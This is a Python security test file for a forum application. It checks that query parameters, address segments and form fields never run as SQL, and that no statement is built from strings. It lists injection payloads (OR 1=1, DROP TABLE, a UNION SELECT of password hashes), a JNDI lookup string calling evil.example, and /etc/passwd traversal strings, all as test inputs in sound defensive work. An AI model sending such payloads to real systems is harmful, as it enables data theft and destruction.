"""S53: what would be a statement if it were ever taken for one."""

import ast
from itertools import product
from pathlib import Path

import forum
from forum import ids
from forum.web import csrf
from tests.security.looking import parameters
from tests.security.reread import Rows, rows
from tests.security.routes import actor, changing, readable
from tests.security.world import World
from tests.visiting import ADDRESS

STATEMENTS = [
    "'",
    '"',
    "' OR 1=1 --",
    "1; DROP TABLE comment; --",
    "x' UNION SELECT password_hash FROM account --",
    "%' OR '%'='",
    "0~0000000000000' OR 1=1",
    "(SELECT 1)",
    "9" * 400,
    "-1",
    "1e999~0000000000000",
    "nan~0000000000000",
    "-99999999999999999999~0000000000000",
    "9223372036854775807~7zzzzzzzzzzzz",
    "newest,oldest",
    "__class__",
    "id) FROM account; --",
    "\\",
    "${jndi:ldap://evil.example/x}",
    "/*",
    "٣~0000000000000",
]


def test_s53_no_parameter_is_ever_a_statement(world: World, looked_for: set[str]) -> None:
    found = set()
    for route, role in product(readable(world.app), ("nobody", "reader")):
        visitor = world.visitor(role)
        names = parameters(world, route, visitor, looked_for)
        found |= names
        before = rows()
        for name in sorted(names):
            for sort in ("best", "active", "newest", "oldest") if name == "cursor" else ("",):
                for text in STATEMENTS:
                    query = {name: text} | ({"sort": sort} if sort else {})
                    response = visitor.get(world.address(route), query_string=query)
                    assert response.status_code in (200, 303, 400, 403, 404), (route, query)
        assert rows() == before, route
    assert found >= {"sort", "cursor", "show", "draft", "next", "begins"}


def test_s53_no_part_of_an_address_is_ever_a_statement(world: World) -> None:
    hostile = [*STATEMENTS, "x" * 100_000, "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "é" * 300]
    for route in [*readable(world.app), *changing(world.app)]:
        visitor = world.visitor("reader")
        before = rows()
        for text in hostile if route.arguments else ():
            address = world.address_of_anything(route, text)
            response = visitor.get(address) if route.method == "GET" else visitor.post(address, **world.fields(route))
            # Doubled slashes are mended by a redirect to the address without them.
            assert response.status_code in (200, 308, 403, 404, 405), (route, text)
            assert (response.location or ADDRESS).startswith(ADDRESS)
        assert rows() == before, route


def test_s53_only_an_id_is_an_id(world: World) -> None:
    real = ids.to_text(world.comment_id)
    for text in (
        real.upper(),
        real[:-1],
        real + "0",
        "z" * 13,
        "8" + "0" * 12,
        "o" * 13,
        "-" * 13,
        "0" * 12 + "٣",
        "1",
    ):
        for path in ("", "/edit", "/reply", "/history", "/decision", "/delete"):
            assert world.visitor("author").get(f"/c/{text}{path}").status_code == 404, text


def test_s53_no_field_is_ever_a_statement(world: World, looked_for: set[str]) -> None:
    for route in changing(world.app):
        before = rows()
        who = actor(route.endpoint)
        looked_for.clear()
        world.send(world.visitor(who), route)
        assert loses_none(before, rows()), route
        world.put_back(route)
        before = rows()
        for name in sorted({*looked_for, *world.fields(route)} - {csrf.FIELD}):
            visitor = world.visitor(who)
            for text in STATEMENTS[:9]:
                response = visitor.post(world.address(route), **world.fields(route) | {name: text})
                assert response.status_code in (200, 204, 303, 400, 401, 403, 404, 409, 429), (route, name, text)
                if response.status_code in (200, 303):  # it was taken as words, or left alone
                    assert loses_none(before, rows()), (route, name, text)
                    world.put_back(route)
                    before = rows()
                    visitor = world.visitor(who)
        assert loses_none(before, rows()), route


def loses_none(before: Rows, after: Rows) -> bool:
    """What was there is there, whatever has become of it."""
    return all(before[table].keys() <= after[table].keys() for table in ("account", "article", "comment", "decision"))


# Numbers of our own, in statements that take no parameters.
WRITTEN_OUT = {"transactions.py": "PRAGMA"}


def test_s53_no_statement_is_put_together_from_strings() -> None:
    """Whatever is given to these is a literal: values travel as parameters."""
    found = []
    for path in sorted(Path(next(iter(forum.__path__))).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and _name(node) in {"text", "execute", "exec_driver_sql", "literal_column"}:
                built = [
                    arg for arg in node.args if isinstance(arg, (ast.JoinedStr, ast.BinOp, ast.Call)) and _is_text(arg)
                ]
                found += [(path.name, ast.unparse(arg)) for arg in built]
    assert [(name, code) for name, code in found if WRITTEN_OUT.get(name, "\0") not in code] == []


def _name(call: ast.Call) -> str:
    return call.func.attr if isinstance(call.func, ast.Attribute) else getattr(call.func, "id", "")


def _is_text(node: ast.expr) -> bool:
    """Whether the expression makes a string: an f-string, an addition, a `%`, `.format` or `.join`."""
    if isinstance(node, ast.Call):
        return _name(node) in {"format", "join", "replace"}
    return isinstance(node, ast.JoinedStr) or any(isinstance(part, ast.Constant) for part in ast.walk(node))
